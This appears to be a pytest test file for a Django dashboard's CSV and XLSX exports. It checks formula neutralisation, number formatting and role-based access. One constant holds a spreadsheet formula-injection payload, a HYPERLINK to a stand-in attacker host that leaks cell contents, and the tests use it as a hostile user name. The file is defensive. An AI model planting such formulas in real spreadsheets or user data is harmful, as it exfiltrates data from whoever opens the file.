"""CSV and XLSX exports of the dashboard's tables (SPEC §6, §10): exact content, numbers that stay
numbers, text that never runs as a spreadsheet formula, and the same access rules as the page."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from core.dates import add_months
from core.exports import Column, cell_safe, sheet_title, table_csv, table_xlsx
from kpi.exports import TABLES
from kpi.models import KpiSnapshot, Scope
from tests.factories import UserFactory

THIS = timezone.localdate().replace(day=1)
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def csv_rows(body: bytes) -> list[list[str]]:
    assert body.startswith(b"\xef\xbb\xbf")  # a byte order mark: Excel reads UTF-8 Cyrillic right
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def snap(month, scope=Scope.DEPARTMENT, scope_id=0, **figures) -> KpiSnapshot:
    return KpiSnapshot.objects.create(
        month=month, scope=scope, scope_id=scope_id, computed_at=timezone.now(), **figures
    )


@pytest.fixture
def figures(db, director, mentor, manager):
    snap(add_months(THIS, -1), base_end=100)
    snap(THIS, base_start=100, base_end=110, churn_rate=0.02, annual_churn_rate=0.2)
    snap(add_months(THIS, -11), Scope.MANAGER, manager.pk, base_start=100)
    snap(
        THIS,
        Scope.MANAGER,
        manager.pk,
        base_end=120,
        churned=5,
        new_referral=25,
        mrr_end=Decimal("612345.67"),
    )
    snap(THIS, Scope.GROUP, mentor.pk, base_start=100, base_end=120)


# --- the writers ------------------------------------------------------------------------------


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_starting_a_formula_are_neutralised(trigger):
    assert cell_safe(f"{trigger}1+1") == f"'{trigger}1+1"


@pytest.mark.parametrize("text", ["Иванов", "", " =1+1", "1-2", "'quoted", "a=b"])
def test_other_text_is_left_alone(text):
    assert cell_safe(text) == text


COLUMNS = (
    Column("name", "Name", "text"),
    Column("count", "Count"),
    Column("rate", "Rate", "percent"),
    Column("money", "Money", "money"),
    Column("month", "Month", "month"),
)
ROWS = [
    {
        "name": EVIL,
        "count": -3,
        "rate": 0.2345,
        "money": Decimal("1234.5"),
        "month": datetime.date(2026, 11, 1),
    },
    {"name": "@SUM(A1:A2)", "count": 0, "rate": None, "money": Decimal("0"), "month": None},
    {"name": "+7 (391) 200-00-00", "count": 7, "rate": 1, "money": 10, "month": None},
    {"name": "-minus", "count": 1, "rate": 0, "money": 0, "month": None},
]


def test_csv_writes_percentages_money_and_months_and_neutralises_text():
    assert csv_rows(table_csv(COLUMNS, ROWS)) == [
        ["Name", "Count", "Rate", "Money", "Month"],
        ["'" + EVIL, "-3", "23.4", "1234.50", "2026-11"],
        ["'@SUM(A1:A2)", "0", "", "0.00", ""],
        ["'+7 (391) 200-00-00", "7", "100", "10", ""],
        ["'-minus", "1", "0", "0", ""],
    ]


def test_xlsx_keeps_numbers_as_numbers_and_text_as_text():
    sheet = load_workbook(io.BytesIO(table_xlsx(COLUMNS, ROWS, title="Managers: 2026/11"))).active
    assert sheet.title == "Managers  2026 11"
    assert [cell.value for cell in sheet[1]] == ["Name", "Count", "Rate", "Money", "Month"]
    name, count, rate, money, month = sheet[2]
    assert (name.value, name.data_type) == ("'" + EVIL, "s")
    assert (count.value, rate.value, money.value) == (-3, 0.2345, 1234.5)
    assert rate.number_format == "0.0%"
    assert money.number_format == "#,##0.00"
    assert month.value.date() == datetime.date(2026, 11, 1)
    assert [sheet.cell(row=r, column=1).value for r in range(3, 6)] == [
        "'@SUM(A1:A2)",
        "'+7 (391) 200-00-00",
        "'-minus",
    ]
    assert all(sheet.cell(row=r, column=1).data_type == "s" for r in range(2, 6))
    assert sheet.cell(row=3, column=3).value is None
    assert sheet.freeze_panes == "A2"


def test_xlsx_drops_characters_a_workbook_cannot_hold():
    sheet = load_workbook(
        io.BytesIO(table_xlsx(COLUMNS[:1], [{"name": "a\x00b\x1fc"}], title="x"))
    ).active
    assert sheet["A2"].value == "abc"


def test_sheet_titles_are_valid():
    assert sheet_title("a" * 40) == "a" * 31
    assert sheet_title("[]:*?/\\") == "Sheet"


# --- the endpoint -----------------------------------------------------------------------------


def test_director_exports_the_managers_table_as_csv(client, figures, director, manager):
    client.force_login(director)
    response = client.get("/dashboard/export/managers.csv?period=12")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="dashboard-managers-12m-{THIS:%Y-%m}.csv"'
    )
    rows = csv_rows(response.content)
    assert len(rows[0]) == len(TABLES["managers"])
    row = next(r for r in rows[1:] if r[0] == manager.full_name)
    by_key = dict(zip([c.key for c in TABLES["managers"]], row, strict=True))
    assert by_key["book_start"] == "100"
    assert by_key["book"] == "120"
    assert by_key["growth"] == "20.0"
    assert by_key["churn_rate"] == "5.0"
    assert by_key["new_referral"] == "25"
    assert by_key["load"] == "80.0"
    assert by_key["mrr"] == "612345.67"


@pytest.mark.parametrize("table", ["months", "groups", "managers", "reasons"])
def test_every_table_exports_as_xlsx(client, figures, director, table):
    client.force_login(director)
    response = client.get(f"/dashboard/export/{table}.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.max_column == len(TABLES[table])


def test_the_months_export_follows_the_period(client, figures, director):
    client.force_login(director)
    rows = csv_rows(client.get("/dashboard/export/months.csv?period=all").content)
    assert [row[0] for row in rows[1:]] == [
        f"{add_months(THIS, -1):%Y-%m}",
        f"{THIS:%Y-%m}",
    ]
    annual_churn = [column.key for column in TABLES["months"]].index("annual_churn_rate")
    assert rows[2][annual_churn] == "20.0"


def test_a_name_that_is_a_formula_is_exported_as_text(client, figures, director, mentor):
    evil = UserFactory(full_name=EVIL, mentor=mentor)
    snap(THIS, Scope.MANAGER, evil.pk, base_end=3)
    client.force_login(director)
    rows = csv_rows(client.get("/dashboard/export/managers.csv").content)
    assert [row[0] for row in rows if EVIL in row[0]] == ["'" + EVIL]
    sheet = load_workbook(io.BytesIO(client.get("/dashboard/export/managers.xlsx").content)).active
    names = [cell.value for cell in sheet["A"]]
    assert "'" + EVIL in names
    assert EVIL not in names


def test_a_mentor_exports_their_own_group_only(client, figures, mentor, manager, outsider):
    snap(THIS, Scope.MANAGER, outsider.pk, base_end=9)
    client.force_login(mentor)
    rows = csv_rows(client.get("/dashboard/export/managers.csv").content)
    names = [row[0] for row in rows[1:]]
    assert manager.full_name in names
    assert outsider.full_name not in names


def test_unknown_tables_and_formats_are_404(client, figures, director):
    client.force_login(director)
    assert client.get("/dashboard/export/passwords.csv").status_code == 404
    assert client.get("/dashboard/export/managers.pdf").status_code == 404


@pytest.mark.parametrize("role", ["manager", "return_manager", "sales_manager"])
def test_only_the_director_and_mentors_export(client, figures, role, request):
    client.force_login(request.getfixturevalue(role))
    assert client.get("/dashboard/export/managers.csv").status_code == 403
